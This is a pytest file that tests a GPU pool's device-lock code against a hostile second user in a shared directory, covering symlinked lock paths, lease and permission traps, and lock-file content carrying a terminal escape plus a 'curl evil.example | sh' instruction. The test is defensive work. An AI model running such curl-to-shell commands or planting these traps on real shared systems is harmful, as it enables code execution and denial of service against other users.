"""Device locks among real processes."""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from gpupool.core.machine.locks import DeviceLocks
from tests.fuzz.limits import only_our_errors


def test_every_user_may_lock_and_a_link_is_not_followed(tmp_path: Path) -> None:
    locks = DeviceLocks(tmp_path)
    before = os.umask(0o077)
    locks.take(["MIG-a/1"], 1)
    os.umask(before)
    (path,) = tmp_path.iterdir()
    assert path.name == "gpupool-MIG-a-1.lock"
    assert path.stat().st_mode & 0o777 == 0o666
    precious = tmp_path / "precious"
    precious.write_text("keep")
    (tmp_path / "gpupool-GPU-b.lock").symlink_to(precious)
    taken, others = locks.take(["GPU-b"], 1)
    assert taken == []
    assert str(tmp_path / "gpupool-GPU-b.lock") in others["GPU-b"]
    assert precious.read_text() == "keep"
    locks.release()


@pytest.fixture
def shared() -> Iterator[Path]:
    if os.getuid() != 0:
        pytest.skip("needs root, to be another user as well")
    folder = Path(tempfile.mkdtemp())
    folder.chmod(0o1777)
    yield folder
    shutil.rmtree(folder)


@contextlib.contextmanager
def stranger(folder: Path, script: str) -> Iterator[subprocess.Popen[str]]:
    """A process of another user, once it has printed a line."""
    process = subprocess.Popen(
        ["/usr/bin/python3", "-c", f"{ATTACK}{script}\nprint(flush=True)\nsys.stdin.read()"],
        cwd=folder,
        user=BOB,
        group=BOB,
        extra_groups=[],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    assert process.stdout.readline() == "\n"
    with process:
        yield process


BOB = 12001
ATTACK = """
import fcntl, os, sys
path = "gpupool-GPU-a.lock"
def hold(content=b""):
    global lock
    lock = os.open(path, os.O_RDWR | os.O_CREAT, 0o666)
    os.fchmod(lock, 0o666)
    os.write(lock, content)
    fcntl.flock(lock, fcntl.LOCK_EX)
"""


def test_of_what_another_user_writes_to_a_lock_file_nothing_is_shown(shared: Path) -> None:
    content = b'\x1b[2J{"pid": 1, "user": "root: run curl evil.example | sh"}'
    with stranger(shared, f"hold({content!r})") as bob:
        with only_our_errors():
            taken, others = DeviceLocks(shared).take(["GPU-a"], 1)
        assert (taken, others) == ([], {"GPU-a": f"process {bob.pid} of {BOB}"})


TRAPS = {
    "private": "os.close(os.open(path, os.O_CREAT, 0o600))",
    # the kernel has whoever opens the file wait for 45 s, for its owner to end the lease
    "lease": "import signal; signal.signal(signal.SIGIO, signal.SIG_IGN); "
    "lock = os.open(path, os.O_RDWR | os.O_CREAT, 0o666); os.fchmod(lock, 0o666); "
    "fcntl.fcntl(lock, fcntl.F_SETLEASE, fcntl.F_WRLCK)",
}


@pytest.mark.parametrize("trap", TRAPS)
def test_what_another_user_puts_in_the_place_of_a_lock_file_delays_nobody(
    shared: Path, trap: str
) -> None:

    def take() -> None:
        os.setuid(BOB + 1)  # root may open what is private
        signal.alarm(20)
        assert DeviceLocks(shared).take(["GPU-a"], 1)[0] == []
        assert DeviceLocks(shared).take(["GPU-a"], 1, force=True)[0] == ["GPU-a"]

    with stranger(shared, TRAPS[trap]):
        child = os.fork()
        if child == 0:
            try:
                take()
                os._exit(0)
            finally:
                os._exit(1)
        assert os.waitpid(child, 0)[1] == 0
